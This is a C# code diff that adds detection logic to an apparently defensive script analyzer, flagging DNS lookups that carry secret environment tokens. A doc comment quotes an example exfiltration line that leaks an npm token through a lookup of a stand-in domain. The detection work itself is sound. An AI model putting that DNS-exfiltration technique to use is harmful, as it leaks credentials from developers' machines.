@@ -69,6 +69,34 @@ internal sealed partial class ForeignScript
         _ => null,
     };
 
+    /// <summary>The tokens that a call takes from the environment, except in headers, where they belong.</summary>
+    private DataKinds TokensInside(int at)
+    {
+        var (data, end) = (DataKinds.None, EndOfCall(at));
+        for (; at < end; at++)
+        {
+            if (_tokens[at].Text is "headers" or "auth" || _tokens[at].Text.Contains("Authorization", StringComparison.OrdinalIgnoreCase))
+            {
+                return DataKinds.None;
+            }
+
+            data |= _tokens[at].Kind is ForeignTokenKind.Name && SecretVariable(_tokens[at].Text, at) is { } name
+                && KnownVariables.IsSecret(name) ? TokenMakers.OfVariable(name) : DataKinds.None;
+        }
+
+        return data;
+    }
+
+    /// <summary>A look-up of a name with a token in it: `dns.lookup(process.env.NPM_TOKEN + ".example.net")`.</summary>
+    private void NoteLookup(int at, string full)
+    {
+        if ((full.StartsWith("dns.", StringComparison.Ordinal) || full.EndsWith("gethostbyname", StringComparison.Ordinal)
+            || full.EndsWith("getaddrinfo", StringComparison.Ordinal)) && TokensInside(at) is not DataKinds.None and var data)
+        {
+            _call.Emit(EffectKind.SendByName, _call.Name, data: data);
+        }
+    }
+
     /// <summary>Whether a script prints anything at all.</summary>
     private bool IsPrinting() => PrintsAll || _tokens.Exists(token => token.Kind is ForeignTokenKind.Name && Printers.Contains(token.Text));
 
